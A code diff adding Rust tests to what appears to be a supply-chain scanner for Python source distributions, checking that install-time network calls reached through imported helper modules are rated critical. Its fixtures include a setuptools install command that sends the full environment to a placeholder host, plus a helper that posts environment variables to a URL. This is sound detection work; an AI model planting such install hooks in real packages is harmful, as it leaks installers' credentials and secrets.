@@ -491,3 +491,61 @@ fn a_file_the_setup_script_only_reads_keeps_its_context() {
         assert!(!network_at_install_in_boot(&sdist_exec(setup)), "{setup}");
     }
 }
+
+/// An sdist whose `setup.py` imports a local `build_support` package; its `__init__.py`
+/// imports `build_support.commands` (absolutely or relatively), which holds `commands`.
+fn sdist_helper_chain(init: &str, commands: &str) -> Artifact {
+    let mut a = Artifact::new("demo-1.0.tar.gz", ArtifactFormat::Sdist);
+    for (p, d) in [
+        (
+            "demo-1.0/setup.py",
+            "from setuptools import setup\nfrom build_support import kwargs\nsetup(**kwargs)\n",
+        ),
+        ("demo-1.0/build_support/__init__.py", init),
+        ("demo-1.0/build_support/commands.py", commands),
+        (
+            "demo-1.0/PKG-INFO",
+            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        ),
+    ] {
+        a.entries.push(entry(p, d.as_bytes()));
+    }
+    a
+}
+
+/// A custom install command that sends the environment (harmless host).
+const INSTALL_COMMAND_SENDS_ENV: &str = "import json, os, urllib.request\nfrom setuptools.command.install import install\nclass InstallCommand(install):\n    def run(self):\n        urllib.request.urlopen('https://example.invalid/c', data=json.dumps(dict(os.environ)).encode())\n        install.run(self)\n";
+
+#[test]
+fn an_install_command_in_a_module_the_setup_helpers_import_runs_at_install_time() {
+    for init in [
+        "import build_support.commands\nkwargs = {'name': 'demo', 'cmdclass': {'install': build_support.commands.InstallCommand}}\n",
+        "from .commands import InstallCommand\nkwargs = {'name': 'demo', 'cmdclass': {'install': InstallCommand}}\n",
+    ] {
+        let a = sdist_helper_chain(init, INSTALL_COMMAND_SENDS_ENV);
+        let hits = of(&a, "PY008");
+        assert!(
+            hits.iter().any(|(sev, path)| *sev == Severity::Critical
+                && path.ends_with("build_support/commands.py")),
+            "{init}: {hits:?}"
+        );
+    }
+}
+
+#[test]
+fn helpers_further_down_without_a_command_keep_their_context() {
+    // A build helper two imports away that downloads sources when asked: its functions
+    // run only if build code calls them, so they are not install-time code.
+    let helper = "import urllib.request, os\ndef fetch(url):\n    env = dict(os.environ)\n    return urllib.request.urlopen(url, data=str(env).encode())\n";
+    let a = sdist_helper_chain(
+        "from . import commands\nkwargs = {'name': 'demo'}\n",
+        helper,
+    );
+    // A direct env-to-network flow is high at runtime, critical only at install.
+    let hits = of(&a, "PY008");
+    assert!(!hits.is_empty(), "the flow itself is still reported");
+    assert!(
+        hits.iter().all(|(sev, _)| *sev < Severity::Critical),
+        "{hits:?}"
+    );
+}
